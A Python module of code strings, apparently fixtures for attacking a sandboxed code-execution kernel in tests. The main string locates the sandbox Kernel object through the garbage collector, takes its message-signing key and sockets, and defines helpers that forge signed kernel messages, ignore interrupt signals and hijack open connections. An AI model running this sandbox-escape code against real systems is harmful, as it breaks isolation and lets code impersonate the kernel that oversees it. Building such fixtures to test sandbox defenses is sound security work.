"""Code that takes the kernel it runs in apart, holds its key and sends what it likes."""

from __future__ import annotations

TAKE_APART = """
import gc, json, os, socket, struct, sys, threading, time
kernel = next(o for o in gc.get_objects() if type(o).__name__ == 'Kernel' and 'sandbox' in type(o).__module__)
wire, iopub, shell, calls = kernel._wire, kernel._iopub, kernel._shell, kernel._calls

def sign(*parts):
    return [b'<IDS|MSG>', wire._sign(parts), *parts]

def header(kind, **more):
    return json.dumps({'msg_id': 'x', 'msg_type': kind, 'session': 's', **more}).encode()

def publish(kind, content, of=None, metadata=b'{}'):
    parts = sign(header(kind), of or parent, metadata, json.dumps(content).encode())
    iopub.send_multipart([kind.encode(), *parts])

def reply(content, metadata={}, of=None):
    parts = sign(header('execute_reply'), of or parent, json.dumps(metadata).encode(), json.dumps(content).encode())
    shell.send_multipart([*request.identities, *parts])

def frame(body):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return struct.pack('!I', len(data)) + data

def hang():
    import signal
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)
    while True:
        time.sleep(1)

def connections():
    for number in range(3, 256):
        try:
            one = socket.socket(fileno=os.dup(number))
            one.getpeername()
        except OSError:
            continue
        if number != calls.socket.fileno():
            yield one
'taken apart'
"""
"""Run in a first cell, with the policy off: what it binds speaks with the kernel's own voice."""

NOW = "request = kernel._request\nparent = json.dumps(request.header).encode()\n"
"""Put before an attack: the request that its cell belongs to."""
